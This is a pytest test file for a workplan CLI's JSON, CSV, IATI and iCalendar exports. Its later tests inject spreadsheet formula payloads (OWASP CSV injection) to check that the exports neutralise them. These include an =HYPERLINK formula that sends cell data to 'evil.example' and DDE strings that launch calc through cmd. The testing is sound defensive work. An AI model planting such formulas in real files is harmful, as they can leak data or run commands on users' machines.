"""`workplan export --format json|csv`: the whole plan as JSON, a row per activity as CSV."""

from __future__ import annotations

import csv
import io
import json
import re

import jsonschema
import pytest
from pydantic import TypeAdapter

from tests.conftest import ROOT
from tests.exporting import NOTE_1_3_2, add_dates, check_golden
from workplan_cli.output.exports import csv_columns, inert_cell
from workplan_cli.plan.model import Plan, StakeholderFile
from workplan_cli.plan.store import find_repo


@pytest.fixture
def dated(repo):
    add_dates(repo)
    return repo


def _json(cli, *args) -> dict:
    return json.loads(cli("export", "--format", "json", *args).stdout)


def _ids(document: dict) -> list[str]:
    return [
        a["id"]
        for area in document["workplan"]["areas"]
        for topic in area["topics"]
        for a in topic["activities"]
    ]


def test_json_is_the_whole_plan_in_the_plan_files_shape(cli, dated):
    document = _json(cli)
    assert list(document) == ["export_version", "filters", "workplan", "stakeholders"]
    assert document["export_version"] == 1
    assert set(document["filters"].values()) == {None}
    store = find_repo(dated)
    assert TypeAdapter(Plan).validate_python(document["workplan"]) == store.load_plan()
    people = {"schema_version": 1, "stakeholders": document["stakeholders"]}
    assert TypeAdapter(StakeholderFile).validate_python(people) == store.load_stakeholders()
    history = document["workplan"]["areas"][0]["topics"][2]["activities"][1]["history"]
    assert history[0] == {
        "date": "2024-05-02",
        "from": "planned",
        "to": "in-progress",
        "note": NOTE_1_3_2,
        "by": "giz",
        "evidence": [],
    }


def test_json_workplan_is_valid_for_the_committed_schema(cli, dated):
    schema = json.loads((ROOT / "schema" / "workplan.schema.json").read_text(encoding="utf-8"))
    validator = jsonschema.Draft202012Validator(
        schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
    )
    assert list(validator.iter_errors(_json(cli)["workplan"])) == []


def test_json_keeps_only_what_the_filters_keep(cli, dated):
    document = _json(cli, "--status", "completed")
    assert document["filters"]["status"] == "completed"
    assert _ids(document) == ["1.3.2"]
    assert [a["id"] for a in document["workplan"]["areas"]] == ["1"]
    area_only = _json(cli, "--area", "3")
    assert [t["id"] for a in area_only["workplan"]["areas"] for t in a["topics"]] == ["3.1"]
    assert _ids(area_only) == ["3.1.1", "3.1.2"]
    assert _ids(_json(cli, "--stakeholder", "students")) == ["1.3.2", "2.2.6"]


def test_json_golden(cli, dated):
    check_golden("topic-1.3.json", cli("export", "--topic", "1.3").stdout.encode("utf-8"))


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_reads_back_one_row_per_activity(cli, dated, tmp_path):
    target = tmp_path / "plan.csv"
    cli("export", "--format", "csv", "-o", str(target))
    raw = target.read_bytes()
    assert raw.startswith(b"id,title,area,")  # no BOM: plain UTF-8
    text = raw.decode("utf-8")
    assert csv.reader(io.StringIO(text, newline="")).__next__() == list(csv_columns())
    rows = _rows(text)
    assert len(rows) == 17
    row = next(r for r in rows if r["id"] == "1.3.2")
    assert row == {
        "id": "1.3.2",
        "title": "Cyber security innovation challenge or hackathon",
        "area": "1",
        "area_title": "Internet Governance, Data Policy and Cybersecurity",
        "topic": "1.3",
        "topic_title": row["topic_title"],
        "objectives": row["objectives"],
        "status": "completed",
        "kind": "innovation-challenge",
        "lead": "micde; bmdv",
        "stakeholders": "giz; students",
        "start": "2024-09-16",
        "end": "2024-09-18",
        "last_update": "2024-09-18",
        "last_note": "Held with three teams.",
        "text": "Pilot an innovation challenge or hackathon on cyber security with students "
        "from Kenya and Germany.",
        "evidence": "https://example.org/hackathon-report",
    }
    plan = find_repo(dated).load_plan()
    assert row["objectives"] == "\n".join(plan.find("1.3.2").topic.objectives)
    untouched = next(r for r in rows if r["id"] == "1.1.1")
    assert (untouched["start"], untouched["last_update"], untouched["last_note"]) == ("", "", "")


def test_csv_quotes_commas_quotes_and_line_breaks(cli, dated):
    out = cli("export", "--format", "csv", "--status", "in-progress").stdout
    assert _rows(out) == []
    # put the awkward note last in the history so that last_note carries it
    text = (dated / "data" / "workplan-2024.yaml").read_text(encoding="utf-8")
    text = text.replace(
        "                note: Held with three teams.\n", '                note: "a, \\"b\\"\\nc"\n'
    )
    (dated / "data" / "workplan-2024.yaml").write_text(text, encoding="utf-8")
    out = cli("export", "--format", "csv", "--topic", "1.3").stdout
    assert '"a, ""b""\nc"' in out
    assert [r["last_note"] for r in _rows(out) if r["id"] == "1.3.2"] == ['a, "b"\nc']
    assert NOTE_1_3_2  # the first entry's note is not the last update


def test_csv_golden_of_the_shipped_plan(cli, repo, tmp_path):
    target = tmp_path / "plan.csv"
    cli("export", "-f", "csv", "-o", str(target))
    check_golden("plan-2024.csv", target.read_bytes())
    assert target.read_bytes().count(b"\r\n") == 18  # header and 17 rows, CRLF as RFC 4180


def test_output_file_replaces_atomically_and_keeps_mode(cli, repo, tmp_path):
    target = tmp_path / "out.json"
    target.write_text("old", encoding="utf-8")
    target.chmod(0o600)
    cli("export", "-o", str(target))
    assert json.loads(target.read_text(encoding="utf-8"))["export_version"] == 1
    assert target.stat().st_mode & 0o777 == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.json", "plans"]


def test_bad_filters_and_places_are_one_clear_error(cli, repo, tmp_path):
    out = cli("export", "--lead", "bmvd", code=1)
    assert out.stderr == "Error: no stakeholder 'bmvd' in stakeholders.yaml; did you mean bmdv?\n"
    out = cli("export", "-o", str(tmp_path / "missing" / "x.json"), code=1)
    assert out.stderr.startswith("Error: ") and "no folder" in out.stderr
    assert cli("export", "--format", "pdf", code=2).stdout == ""


def test_output_dash_is_stdout_and_a_symlink_is_written_through(cli, repo, tmp_path):
    assert cli("export", "-f", "csv", "-o", "-").stdout.startswith("id,title,")
    target = tmp_path / "real.csv"
    target.write_text("old", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    cli("export", "-f", "csv", "-o", str(link))
    assert link.is_symlink()
    assert target.read_text(encoding="utf-8").startswith("id,title,")


# --- Hostile text: every export is well-formed, checked with a real parser ------------------------

HOSTILE = r'"Bad \0 nul \e[31m esc \f ff \uFFFE \uFFFF \x7f \x9b \x85 \u2028 \r cr \x01 \v \t tab"'
LOADED = "Bad \0 nul \x1b[31m esc \f ff \ufffe \uffff \x7f \x9b \x85 \u2028 \r cr \x01 \v \t tab"
CLEAN = "Bad \ufffd nul \ufffd[31m esc \ufffd ff \ufffd \ufffd \ufffd \ufffd \ufffd \u2028 \r cr "
CLEAN += "\ufffd \ufffd \t tab"
CYBER = "title: Cyber security innovation challenge or hackathon"


@pytest.fixture
def hostile(dated):
    path = dated / "data" / "workplan-2024.yaml"
    text = path.read_text(encoding="utf-8")
    assert text.count(CYBER) == 1
    path.write_text(text.replace(CYBER, f"title: {HOSTILE}"), encoding="utf-8")
    return dated


def _export_bytes(cli, tmp_path, *args) -> bytes:
    target = tmp_path / "export"
    cli("export", *args, "-o", str(target))
    return target.read_bytes()


def test_hostile_text_gives_well_formed_iati_xml(cli, hostile, tmp_path):
    import xml.etree.ElementTree as ET

    data = _export_bytes(cli, tmp_path, "--format", "iati", "--iati-ref", "XM-DAC-5-7")
    root = ET.fromstring(data)  # raised "not well-formed (invalid token)" before
    titles = [n.text for n in root.iter("narrative") if n.text and n.text.startswith("1.3.2 ")]
    assert titles == ["1.3.2 " + CLEAN.replace("\r", "\n")]  # XML reads a CR as a line feed


def test_hostile_text_gives_a_well_formed_calendar(cli, hostile, tmp_path):
    from icalendar import Calendar

    data = _export_bytes(cli, tmp_path, "--format", "ics")
    lines = data.split(b"\r\n")
    assert lines[-1] == b"" and all(len(line) <= 75 for line in lines)
    assert not any(re.search(rb"[\x00-\x08\x0a-\x1f\x7f]", line) for line in lines)
    data.decode("utf-8")
    events = Calendar.from_ical(data).walk("VEVENT")
    summaries = [str(e["summary"]) for e in events if str(e["uid"]).startswith("activity-1.3.2@")]
    assert summaries == ["1.3.2 " + CLEAN.replace("\r", "\n")]


def test_hostile_text_gives_csv_that_reads_back(cli, hostile, tmp_path):
    data = _export_bytes(cli, tmp_path, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert [r["title"] for r in rows if r["id"] == "1.3.2"] == [CLEAN]
    assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\xc2[\x80-\x9f]", data)


def test_hostile_text_gives_json_that_keeps_every_character(cli, hostile, tmp_path):
    data = _export_bytes(cli, tmp_path, "--format", "json")
    assert not re.search(rb"[\x00-\x1f\x7f]|\xc2[\x80-\x9f]", data.replace(b"\n", b""))
    document = json.loads(data.decode("utf-8"))
    titles = [
        a["title"]
        for area in document["workplan"]["areas"]
        for topic in area["topics"]
        for a in topic["activities"]
        if a["id"] == "1.3.2"
    ]
    assert titles == [LOADED]


@pytest.mark.parametrize(
    ("args", "module", "message"),
    [
        (["--format", "iati", "--iati-ref", "XM-1"], "iati", "the IATI export is not well-formed"),
        (["--format", "ics"], "ics", "the iCalendar export is not well-formed"),
        (["--format", "csv"], "exports", "the CSV export does not read back as written, or"),
    ],
)
def test_an_export_that_would_not_be_well_formed_is_a_bug_not_a_file(
    cli, hostile, tmp_path, monkeypatch, args, module, message
):
    # Were the cleaning ever lost, the check after it stops the export: exit 3, nothing written.
    import importlib

    monkeypatch.setattr(
        importlib.import_module(f"workplan_cli.output.{module}"), "without_controls", _bad
    )
    target = tmp_path / "out"
    err = cli("export", *args, "-o", str(target), code=3).stderr
    assert message in err and "this is a bug in workplan" in err
    assert not target.exists()


def _bad(text: str) -> str:
    return text.replace("tab", "\x01")  # a control character the cleaning let through


# Cells that a spreadsheet would run as formulas (OWASP "CSV Injection").
HOSTILE_CELLS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "topic_title": "+1+cmd|' /C calc'!A0",
    "text": '-2+3, then "quoted"',
    "last_note": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _hostile_plan(repo):
    path = repo / "data" / "workplan-2024.yaml"
    text = path.read_text(encoding="utf-8")
    block = text.index('- id: "1.3.2"')
    head, tail = text[:block], text[block:]
    head = head.replace(
        "title: Cybersecurity", f"title: {json.dumps(HOSTILE_CELLS['topic_title'])}"
    )
    tail = tail.replace(
        "title: Cyber security innovation challenge or hackathon",
        f"title: {json.dumps(HOSTILE_CELLS['title'])}",
        1,
    )
    tail = tail.replace(
        """text: >-
              Pilot an innovation challenge or hackathon on cyber security with students from
              Kenya and Germany.""",
        f"text: {json.dumps(HOSTILE_CELLS['text'])}",
        1,
    )
    tail = tail.replace(
        "status: planned",
        "status: in-progress",
        1,
    ).replace(
        "history: []",
        "history: [{date: 2024-05-02, from: planned, to: in-progress, "
        f"note: {json.dumps(HOSTILE_CELLS['last_note'])}}}]",
        1,
    )
    path.write_text(head + tail, encoding="utf-8")


def test_csv_cells_that_start_a_formula_are_inert(repo, cli):
    _hostile_plan(repo)
    text = cli("export", "--format", "csv", "--plan", "2024").stdout
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    row = rows["1.3.2"]
    for column, value in HOSTILE_CELLS.items():
        assert row[column] == "'" + value, column  # read back: one quote, then the text
    assert rows["1.3.1"]["topic_title"] == "'" + HOSTILE_CELLS["topic_title"]
    for row in rows.values():  # no cell of any row starts a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("a=1", "a=1"),
        ("1.3.2", "1.3.2"),
        ("", ""),
        ("'=1", "'=1"),
    ],
)
def test_inert_cell(cell, shown):
    assert inert_cell(cell) == shown


# --- the indicators' CSV (export --format csv --indicators) --------------------------------


def _results_plan(repo, text_change=("", "")):
    from pathlib import Path

    fixture = (Path(__file__).parent / "golden" / "results" / "plan.yaml").read_text()
    for other in (repo / "data").glob("workplan-*.yaml"):
        other.unlink()
    (repo / "data" / "workplan-2024.yaml").write_text(fixture.replace(*text_change))


def test_indicators_csv(repo, cli):
    import csv
    import io

    _results_plan(repo)
    out = cli("export", "-f", "csv", "--indicators", "--as-of", "2024-07-01").stdout
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [r["id"] for r in rows] == ["1.1-a", "1.1-b", "1.1-c"]
    first = rows[0]
    assert (first["baseline"], first["latest"], first["target"], first["achieved"]) == (
        "0",
        "1",
        "4",
        "25.0",
    )
    assert (first["colour"], first["target_2025"], first["actual_2024"]) == ("amber", "8", "1")
    assert first["variance"] == "'-47.8"  # a cell that starts like a formula is made text
    assert list(first)[-6:] == [
        "target_2024",
        "actual_2024",
        "target_2025",
        "actual_2025",
        "target_2025-Q2",
        "actual_2025-Q2",
    ]


def test_indicators_csv_cells_cannot_be_formulas(repo, cli):
    _results_plan(repo, ("text: Joint position agreed", 'text: "=HYPERLINK(\\"x\\")\\u0007"'))
    out = cli("export", "-f", "csv", "--indicators").stdout
    assert "'=HYPERLINK" in out and "\x07" not in out


def test_indicators_csv_of_a_topic_without_indicators_has_the_header(repo, cli):
    _results_plan(repo)
    out = cli("export", "-f", "csv", "--indicators", "--topic", "1.2").stdout
    assert out.startswith("id,topic,objective,") and len(out.splitlines()) == 1


def test_indicators_only_with_csv(repo, cli):
    assert (
        "--indicators is an option of --format csv"
        in cli("export", "-f", "json", "--indicators", code=2).stderr
    )
